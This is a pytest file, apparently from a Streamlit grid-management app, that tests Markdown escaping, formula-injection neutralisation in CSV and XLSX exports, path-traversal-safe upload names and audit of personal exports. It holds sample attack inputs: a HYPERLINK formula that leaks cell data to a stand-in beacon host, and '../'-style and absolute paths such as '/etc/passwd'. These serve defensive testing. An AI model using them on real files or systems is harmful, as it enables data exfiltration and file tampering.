"""Data is text, never code; files from outside never become paths; exports carry no
formula; personal exports are audited; the screen sees aggregates only (issue #17).
The real-browser half of the payload walk is in ``test_payloads_browser.py``."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from gridmap import cli
from gridmap.errors import ValidationError
from gridmap.io import spreadsheet
from gridmap.sanitize import display_name, download_name, plain, upload_suffix
from gridmap.store import open_store

from .conftest import fingerprint
from .payloads import HOST, add_hostile_accounts, hostile_frames, payload
from .test_app import APP, PAGES, as_user

FORMULA = '=HYPERLINK("http://beacon.invalid/?x="&A1,"click")'


# -- plain text where Streamlit reads Markdown -------------------------------------------

def _unescape(text: str) -> str:
    """What a Markdown renderer shows of escaped text."""
    from .test_app import shown
    return shown(text)


@pytest.mark.parametrize("value", [payload("t.x"), "![x](http://beacon.invalid/a.png)",
                                   "**bold** _it_ `code` # h", ":red[x] :material/home: $x$",
                                   "1. list", "<b>x</b>", "普通的名字", "a\\b"])
def test_plain_escapes_every_markdown_sign_and_keeps_the_text(value):
    shown = plain(value)
    assert _unescape(shown) == value  # a Markdown renderer shows exactly the value
    assert not re.search(r"[!-/:-@\[-`{-~]", _bare(shown))  # no Markdown sign stands alone


def test_plain_keeps_bare_urls_and_addresses_from_becoming_links():
    """GFM links these in the text left after escapes are read: an invisible word joiner
    breaks each pattern, and the text reads the same."""
    value = "见 http://a.invalid/x、HTTPS://b.invalid、www.c.invalid 和 d@e.invalid"
    read = re.sub(r"\\(.)", r"\1", plain(value))  # the text a renderer links in
    assert not re.search(r"(?i)https?://|www\.|[-.\w+]@", read)
    assert read.replace("\u2060", "") == value


def test_plain_keeps_a_value_on_one_line():
    assert "\n" not in plain("甲\n# 标题\n- 项")


RAW_SIGNS = (f"](http://{HOST}", "**b", ":red[r", "$x^", "<img", "<script")


def _bare(text: str) -> str:
    """``text`` without its backslash-escaped characters: what Markdown could still read."""
    return re.sub(r"\\[!-/:-@\[-`{-~]", "", text)
# Proto fields that Streamlit renders as Markdown (labels of every widget, bodies of
# markdown/caption/headers/alerts, metric labels, tab and expander labels, the options
# of radios and button groups). Selectbox options and tables are plain text.
_MARKDOWN_FIELDS = ("label", "body", "help", "caption", "captions")


def _markdown_texts(node) -> list[tuple[str, str]]:
    """(element type, text) of every Markdown-rendered string in an AppTest tree."""
    found = []
    proto = getattr(node, "proto", None)
    kind = getattr(node, "type", "")
    if proto is not None and kind not in ("text", "code", "html", "arrow_data_frame",
                                          "selectbox", "multiselect", "json"):
        for field in _MARKDOWN_FIELDS:
            value = getattr(proto, field, None)
            if isinstance(value, str):
                found.append((kind, value))
            elif value is not None and not isinstance(value, bytes | int | float | bool):
                found += [(kind, v) for v in value if isinstance(v, str)]
        if kind in ("radio", "button_group"):
            for option in getattr(proto, "options", []):
                found.append((kind, option if isinstance(option, str) else
                              getattr(option, "content", "")))
        if kind == "tabs" or hasattr(proto, "expandable"):
            found.append((kind, str(proto)))
    for child in getattr(node, "children", {}).values():
        found += _markdown_texts(child)
    return found


@pytest.fixture(scope="module")
def hostile_store(tmp_path_factory, small_frames):
    store = open_store(tmp_path_factory.mktemp("hostile") / "hostile.gpkg")
    store.init(hostile_frames(small_frames))
    add_hostile_accounts(store)
    return store


def _visits(store) -> list[tuple[str, dict]]:
    """(page, query) pairs: every page, plus a case's and a need's detail and a grid's
    side panel, which show one record's text."""
    case = store.read("cases").iloc[0]["case_id"]
    need = store.read("needs").query("stage == 'posted'").iloc[0]["need_id"]
    grid = store.read("grids").iloc[0]["grid_id"]
    extra = [("cases", {"case": case}), ("needs", {"need": need}),
             ("map", {"area": f"grid:{grid}"}), ("workload", {"view": "areas"}),
             ("assessment", {"view": "profiles"})]
    return [(Path(p).stem, {}) for p in PAGES] + extra


@pytest.mark.parametrize("role", ["admin", "leader"])
def test_no_page_hands_data_to_markdown_unescaped(hostile_store, monkeypatch, role):
    from .test_access import principal_of
    monkeypatch.setenv("GRIDMAP_STORE", str(hostile_store.path))
    p = principal_of(hostile_store, role)
    checked = 0
    for page, query in _visits(hostile_store):
        if not p.may_open(page):
            continue
        at = as_user(AppTest.from_file(str(APP), default_timeout=60), role, scope=p.scope,
                     worker_id=p.worker_id)
        for key, value in query.items():
            at.query_params[key] = value
        at.run()
        at.switch_page(f"pages/{page}.py").run()
        assert not at.exception, (page, at.exception)
        texts = _markdown_texts(at._tree)
        checked += len(texts)
        raw = [(kind, text[:120]) for kind, text in texts
               if any(sign in _bare(text) for sign in RAW_SIGNS)]
        assert not raw, (page, query, raw)
    assert checked > 100  # the walk looked at something


# -- exports: no cell is a formula -------------------------------------------------------

def _cells(workbook) -> list:
    return [c for s in workbook.worksheets for row in s.iter_rows() for c in row]


def test_csv_cells_are_inert_and_numbers_stay_numbers():
    table = pd.DataFrame({"name": [FORMULA, "+1", "-2", "@SUM(A1)", "\tx", "\rx", "普通"],
                          "n": [-3, 1, 2, 3, 4, 5, 6]})
    rows = list(csv.reader(io.StringIO(spreadsheet.csv_text(table), newline="")))
    for value in (r[0] for r in rows[1:]):
        assert not value.startswith(spreadsheet.FORMULA_START)
    assert rows[1][0] == "'" + FORMULA and rows[-1][0] == "普通"
    assert [r[1] for r in rows[1:]] == ["-3", "1", "2", "3", "4", "5", "6"]


def test_xlsx_text_that_looks_like_a_formula_is_a_quoted_string():
    table = pd.DataFrame({"name": [FORMULA, "-2", "@x", "普通"], "n": [-3.5, 1, 2, 3]})
    book = openpyxl.load_workbook(io.BytesIO(spreadsheet.xlsx_bytes({"t": table})))
    cells = _cells(book)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    sheet = book["t"]
    assert sheet["A2"].value == FORMULA and sheet["A2"].data_type == "s"
    assert sheet["A2"].quotePrefix and sheet["A3"].quotePrefix
    assert sheet["B2"].value == -3.5 and sheet["B2"].data_type == "n"


@pytest.fixture
def hostile_copy(tmp_path, small_frames):
    store = open_store(tmp_path / "hostile.gpkg")
    store.init(hostile_frames(small_frames))
    return store


def _community_with_households(store) -> str:
    hh = store.read("households")
    grids = store.read("grids").set_index("grid_id")
    return grids.loc[hh["grid_id"].iloc[0], "community_id"]


def test_no_cli_export_writes_a_formula(hostile_copy, tmp_path, capsys):
    store = str(hostile_copy.path)
    community = _community_with_households(hostile_copy)
    ledger = tmp_path / "ledger.xlsx"
    assert cli.main(["export", "ledger", "--scope", f"community:{community}", "--out",
                     str(ledger), "--personal", "--store", store]) == 0
    book = openpyxl.load_workbook(ledger)
    texts = [c.value for c in _cells(book) if isinstance(c.value, str)]
    assert any(v.startswith("=HYPERLINK") for v in texts)  # the payload is there, as text
    assert not [c.coordinate for c in _cells(book) if c.data_type == "f"]
    report = tmp_path / "workload.xlsx"
    assert cli.main(["report", "workload", "--format", "xlsx", "--out", str(report),
                     "--store", store]) == 0
    assert not [c for c in _cells(openpyxl.load_workbook(report)) if c.data_type == "f"]
    capsys.readouterr()
    assert cli.main(["report", "workload", "--store", store]) == 0
    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    names = [r[1] for r in rows[1:]]
    assert any(n.startswith("'=HYPERLINK") for n in names)
    assert not any(n.startswith(spreadsheet.FORMULA_START) for r in rows for n in r)


# -- files from outside ------------------------------------------------------------------

def _ledger_csv(store) -> bytes:
    from .test_importing import GOOD_ID
    grid = store.read("grids").iloc[0]["grid_id"]
    return (f"户主姓名,身份证号,住址,所属网格,颜色等级\n"
            f"张三,{GOOD_ID},幸福路1号,{grid},红\n").encode()


def test_an_upload_name_is_a_label_and_never_a_path(small_store, monkeypatch, tmp_path):
    """The page reads the bytes itself: names with ../ or an absolute path create no file
    there and cannot replace the store."""
    monkeypatch.setenv("GRIDMAP_STORE", str(small_store.path))
    target = tmp_path / "escaped"
    target.mkdir()
    before = fingerprint(small_store)
    names = [f"../../../../../../..{target}/x.csv", f"{target}/y.csv",
             "..\\..\\..\\z.csv"]
    for name in names:
        at = as_user(AppTest.from_file(str(APP), default_timeout=60))
        at.run()
        at.switch_page("pages/import.py").run()
        at.file_uploader[0].set_value((name, _ledger_csv(small_store), "text/csv"))
        at.run()
        assert not at.exception
        assert not list(target.iterdir()), name
        assert at.metric and at.metric[0].value == "1", name  # read from memory, checked
    assert fingerprint(small_store) == before


def test_upload_suffix_and_names():
    assert upload_suffix("../../x.CSV", (".csv",)) == ".csv"
    with pytest.raises(ValidationError):
        upload_suffix("/var/lib/store.gpkg", (".csv", ".xlsx"))
    assert display_name("../../etc/passwd") == "passwd"
    assert display_name("C:\\a\\b\x00c.csv") == "bc.csv"
    assert download_name("ledger-../../x 张*", ".xlsx") == "ledger-.._.._x_张.xlsx"
    assert "/" not in download_name("/etc/passwd", ".csv")


def test_a_boundary_upload_is_written_under_a_generated_name(small_store, monkeypatch,
                                                             tmp_path):
    monkeypatch.setenv("GRIDMAP_STORE", str(small_store.path))
    grids = small_store.read("grids").head(3)
    raw = grids.to_json().encode()
    target = tmp_path / "escaped"
    target.mkdir()
    at = as_user(AppTest.from_file(str(APP), default_timeout=60))
    at.run()
    at.switch_page("pages/import.py").run()
    at.selectbox[0 if at.selectbox[0].options else 1].set_value("grids").run()
    at.file_uploader[0].set_value((f"../../../..{target}/g.geojson", raw,
                                   "application/geo+json"))
    at.run()
    assert not at.exception
    assert not list(target.iterdir())
    assert at.metric[0].value == "3"  # read and checked all the same
    # A .gpkg named as the live store itself: written nowhere near it, so the store is
    # untouched (before, these bytes replaced it).
    before = small_store.path.read_bytes()
    at.file_uploader[0].set_value((str(small_store.path), raw, "application/geopackage"))
    at.run()
    assert not at.exception
    assert small_store.path.read_bytes() == before


# -- imports: empty files ----------------------------------------------------------------

def test_a_header_only_or_empty_file_is_refused_and_nothing_is_written(small_store, tmp_path):
    header_only = tmp_path / "户籍.csv"
    header_only.write_text("户主姓名,身份证号,所属网格,颜色等级\n", encoding="utf-8")
    empty = tmp_path / "空.csv"
    empty.write_bytes(b"")
    before = fingerprint(small_store)
    for path, reason in ((header_only, "no data rows"), (empty, "the file is empty")):
        assert cli.main(["import", "households", str(path), "--store",
                         str(small_store.path)]) == 2
        assert fingerprint(small_store) == before
        with pytest.raises(ValidationError, match=reason) as refused:
            from gridmap.io import importing
            importing.prepare("households", path, path.name, store=small_store)
        assert refused.value.source == path.name


def test_an_empty_file_is_refused_on_the_page_in_chinese(small_store, monkeypatch):
    monkeypatch.setenv("GRIDMAP_STORE", str(small_store.path))
    at = as_user(AppTest.from_file(str(APP), default_timeout=60))
    at.run()
    at.switch_page("pages/import.py").run()
    at.file_uploader[0].set_value(("名单.csv", b"", "text/csv"))
    at.run()
    assert [_unescape(e.value) for e in at.error] == ["文件 名单.csv：文件是空的"]


# -- personal exports on the command line ------------------------------------------------

def test_a_personal_cli_export_is_audited(small_store, tmp_path, monkeypatch):
    store = str(small_store.path)
    community = _community_with_households(small_store)
    out = tmp_path / "l.xlsx"
    assert cli.main(["export", "ledger", "--scope", f"community:{community}", "--out",
                     str(out), "--personal", "--store", store]) == 0
    audit = small_store.read("audit")
    row = audit[audit["action"] == "export_personal"].iloc[-1]
    assert row["username"].startswith("operator:") and row["target"] == f"community:{community}"
    n = len(small_store.read("households", area=cli_area(community)))
    assert f'"households": {n}' in row["detail"]
    monkeypatch.setenv("GRIDMAP_PASSWORD", "demo-admin")
    assert cli.main(["export", "ledger", "--scope", f"community:{community}", "--out",
                     str(out), "--personal", "--as", "admin", "--store", store]) == 0
    audit = small_store.read("audit")
    assert audit[audit["action"] == "export_personal"].iloc[-1]["username"] == "admin"
    before = len(audit)
    assert cli.main(["export", "ledger", "--scope", f"community:{community}", "--out",
                     str(out), "--store", store]) == 0  # without personal fields: no row
    assert len(small_store.read("audit")) == before


def cli_area(community):
    from gridmap.places import Area
    return Area("community", community)


def test_the_screen_gets_no_ledger_from_the_cli(small_store, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("GRIDMAP_PASSWORD", "demo-screen")
    community = _community_with_households(small_store)
    out = tmp_path / "s.xlsx"
    for personal in ([], ["--personal"]):
        assert cli.main(["export", "ledger", "--scope", f"community:{community}", "--out",
                         str(out), *personal, "--as", "screen",
                         "--store", str(small_store.path)]) == 2
        assert not out.exists()
    assert "aggregates only" in capsys.readouterr().err

